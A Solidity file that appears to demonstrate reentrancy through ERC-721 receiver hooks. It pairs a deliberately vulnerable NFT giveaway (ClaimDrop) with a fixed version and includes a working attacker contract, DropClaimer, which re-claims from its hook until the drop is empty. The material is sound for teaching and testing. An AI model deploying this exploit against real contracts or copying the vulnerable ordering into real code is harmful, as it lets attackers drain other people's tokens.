// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IERC721Receiver {
    function onERC721Received(address operator, address from, uint256 id, bytes calldata data)
        external
        returns (bytes4);
}

/// @notice A minimal ERC-721: its creator mints; safeTransferFrom calls the receiver's hook.
contract GenesisNft {
    address public immutable minter;
    uint256 public totalSupply;
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => mapping(address => bool)) public isApprovedForAll;

    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    event Approval(address indexed owner, address indexed spender, uint256 indexed id);
    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);

    error NotMinter();
    error NotAuthorized();
    error WrongOwner();
    error UnsafeRecipient();

    constructor() {
        minter = msg.sender;
    }

    function mintBatch(address to, uint256 count) external {
        if (msg.sender != minter) revert NotMinter();
        for (uint256 i; i < count; ++i) {
            uint256 id = ++totalSupply;
            ownerOf[id] = to;
            emit Transfer(address(0), to, id);
        }
        balanceOf[to] += count;
    }

    function approve(address spender, uint256 id) external {
        address holder = ownerOf[id];
        if (msg.sender != holder && !isApprovedForAll[holder][msg.sender]) revert NotAuthorized();
        getApproved[id] = spender;
        emit Approval(holder, spender, id);
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
        emit ApprovalForAll(msg.sender, operator, approved);
    }

    function transferFrom(address from, address to, uint256 id) public {
        if (ownerOf[id] != from) revert WrongOwner();
        if (msg.sender != from && !isApprovedForAll[from][msg.sender] && msg.sender != getApproved[id]) {
            revert NotAuthorized();
        }
        unchecked {
            balanceOf[from]--;
            balanceOf[to]++;
        }
        ownerOf[id] = to;
        delete getApproved[id];
        emit Transfer(from, to, id);
    }

    function safeTransferFrom(address from, address to, uint256 id) external {
        transferFrom(from, to, id);
        if (
            to.code.length != 0
                && IERC721Receiver(to).onERC721Received(msg.sender, from, id, "")
                    != IERC721Receiver.onERC721Received.selector
        ) revert UnsafeRecipient();
    }
}

/// @notice Gives away a stock of NFTs it holds, one per address.
abstract contract NftDrop {
    GenesisNft public immutable nft;
    uint256 public nextId;
    mapping(address => bool) public claimed;

    event Claimed(address indexed claimer, uint256 id);

    error AlreadyClaimed();

    constructor(GenesisNft nft_, uint256 firstId) {
        nft = nft_;
        nextId = firstId;
    }

    function claim() external virtual;

    function _hand(address to) internal {
        uint256 id = nextId++;
        nft.safeTransferFrom(address(this), to, id);
        emit Claimed(to, id);
    }
}

/// @notice Records the claim after handing the NFT over: the receiver hook can claim again.
contract ClaimDrop is NftDrop {
    constructor(GenesisNft nft_, uint256 firstId) NftDrop(nft_, firstId) {}

    function claim() external override {
        if (claimed[msg.sender]) revert AlreadyClaimed();
        _hand(msg.sender);
        claimed[msg.sender] = true;
    }
}

/// @notice Records the claim first (checks-effects-interactions): one NFT per address, hooks or not.
contract CappedClaimDrop is NftDrop {
    constructor(GenesisNft nft_, uint256 firstId) NftDrop(nft_, firstId) {}

    function claim() external override {
        if (claimed[msg.sender]) revert AlreadyClaimed();
        claimed[msg.sender] = true;
        _hand(msg.sender);
    }
}

/// @notice Attacker: claims again from its receiver hook until the drop holds nothing.
contract DropClaimer is IERC721Receiver {
    NftDrop private immutable drop;

    constructor(NftDrop drop_) {
        drop = drop_;
    }

    function start() external {
        drop.claim();
    }

    function onERC721Received(address, address, uint256, bytes calldata)
        external
        returns (bytes4)
    {
        if (drop.nft().balanceOf(address(drop)) > 0) drop.claim();
        return IERC721Receiver.onERC721Received.selector;
    }
}
